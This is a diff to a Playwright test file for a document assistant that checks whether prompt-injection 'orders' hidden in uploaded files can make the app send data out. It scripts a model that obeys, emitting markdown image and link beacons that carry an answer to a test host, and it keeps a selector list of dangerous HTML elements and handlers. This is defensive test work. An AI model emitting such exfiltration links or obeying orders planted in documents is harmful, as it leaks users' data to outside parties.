@@ -11,6 +11,7 @@ from collections.abc import Callable, Iterator
 from contextlib import AbstractContextManager, contextmanager
 from dataclasses import dataclass, field
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
 from typing import TYPE_CHECKING, Any
 from uuid import uuid4
 
@@ -19,8 +20,12 @@ import pytest
 from playwright.sync_api import Browser, Page, expect
 
 from tests.assistant.talking import Server, conversation_for, kinds, talking
-from tests.documents.helpers import ready
+from tests.assistant.test_browser import sign_in
+from tests.assistant.test_uploads_walk import dropped
+from tests.documents.helpers import ingested, ready
+from tests.support.browser import settled
 from tests.support.cast import MAX, PASSWORD
+from tests.support.clients import api
 from tests.support.localaws import LocalAws
 from tests.support.payloads import fetches, poisoned_files, scripts
 from tests.support.services import Worker
@@ -30,12 +35,14 @@ if TYPE_CHECKING:
 
 STREAM = {"operation": "ConverseStream"}
 STEP = 1 if os.environ.get("UNTRUSTED") == "full" else 9
+ORDERS = 300  # that hide in files
 AT_ONCE = 10  # payloads in one answer: what one leaves open swallows few others
 ACTIVE = (
     "script:not([src^='/static/']), iframe, object, embed, base, meta[http-equiv=refresh], video,"
-    " audio, form[action^='http'], link[href^='http'], img:not([src^='/']):not([src^='data:']),"
-    " [onerror], [onload], [onclick], [onfocus], [ontoggle], [onmouseover], [onbegin],"
-    " [style*=url], [srcset], [ping], [background], svg image, svg script, foreignObject, animate"
+    " audio, form[action^='http'], link[href^='http'], [onerror], [onload], [onclick], [onfocus],"
+    " [ontoggle], [onmouseover], [onbegin], [style*=url], [srcset]:not([data-sheet]), [ping],"
+    " img:not([src^='/'], [src^='data:'], [data-sheet]), [background], svg image, svg script,"
+    " foreignObject, animate"
 )
 
 
@@ -247,7 +254,7 @@ def test_a_poisoned_document_sends_nothing_and_the_model_that_obeys_cannot_eithe
     from tenants.context import entered
     from tests.support.clients import tenant_of
 
-    files = poisoned_files(300, beacon.url)
+    files = poisoned_files(ORDERS, beacon.url)
     for name, content in files.items():
         ready(name, content)
     localaws.script(
@@ -266,4 +273,66 @@ def test_a_poisoned_document_sends_nothing_and_the_model_that_obeys_cannot_eithe
     came = [path for path in beacon.came if not path.startswith("/bare/")]  # some come late
     assert came == []
     with capsys.disabled():
-        print(f"\n300 orders in {len(files)} documents: 0 requests, 0 actions")
+        print(f"\n{ORDERS} orders in {len(files)} documents: 0 requests, 0 actions")
+
+
+def test_files_that_give_orders_send_nothing_from_any_page_to_a_model_that_obeys(
+    server: Server, localaws: LocalAws, beacon: Beacon, page: Page, tmp_path: Path, capsys: Any
+) -> None:
+    from documents.models import Document
+    from tenants.context import entered
+    from tests.support.clients import tenant_of
+
+    written = poisoned_files(ORDERS, beacon.url)
+    for name, content in written.items():
+        (tmp_path / name).write_bytes(content)
+    watch, home = Watch(f":{server.port}").over(page), f"http://{server.host(MAX)}"
+    sign_in(page, server, MAX, "/documents/")
+    settled(page)
+    dropped(page, *(tmp_path / name for name in written))
+    page.locator("[data-queue-start]").click()
+    expect(page.locator("[data-document]")).to_have_count(len(written))
+    with entered(tenant_of(MAX)):
+        kept = list(Document.objects.values_list("id", flat=True))
+    for document in kept:
+        assert ingested(document).status == "ready"
+    expect(page.locator("[data-status=ready]")).to_have_count(len(written))
+    for document in kept:
+        _looked_at(page, f"{home}/documents/{document}/")
+    _looked_at(page, f"{home}/search/?q=hotel+limit+in+London+orders+URL")
+    asked = "What is the hotel limit in London?"
+    page.goto(f"{home}/assistant/")
+    settled(page)
+    page.locator("textarea").fill(asked)
+    page.locator("textarea").press("Enter")
+    expect(page.locator("[data-status=withdrawn]")).to_have_count(1)  # the guardrail saw the orders
+    watch.nothing()
+    # Had it not, the model might obey: as it does now, of a text that no guardrail withdraws.
+    for document in kept:
+        assert api(MAX).delete(f"/api/v1/documents/{document}/").status_code == 204
+    ready("Limits.md", "The hotel limit in London is 140 euros a night.")
+    said = [
+        "The hotel limit in London is 140 euros a night [1]. "
+        + " ".join(f"![logo]({beacon.url}/{n}?q=140) [Continue]({beacon.url}/{n})" for n in some)
+        for some in (range(at, at + 100) for at in range(0, ORDERS, 100))
+    ]
+    for path, box, answers in (
+        ("/ask/", "#question", "#answers [data-answer]:has([data-grounded])"),
+        ("/assistant/", "textarea", "[data-status=complete]"),
+    ):
+        page.goto(home + path)
+        for number, words in enumerate(said, start=1):
+            pieces = [words[at : at + 401] for at in range(0, len(words), 401)]
+            localaws.reset()
+            localaws.script(chunks=pieces, match=STREAM, times=2)  # a stronger model obeys too
+            settled(page)
+            page.locator(box).fill(f"{asked} Once more: {number}.")
+            page.locator(box).press("Enter")
+            expect(page.locator(answers)).to_have_count(number)
+            expect(page.locator(answers).filter(has_text="Continue")).to_have_count(number)
+            assert page.locator(ACTIVE).count() == 0
+        assert page.locator("[data-href]").count() >= ORDERS, "the model did not obey"
+        watch.nothing()
+    assert beacon.came == []
+    with capsys.disabled():
+        print(f"\n{ORDERS} orders in {len(written)} files, obeyed {2 * ORDERS} times: 0 requests")
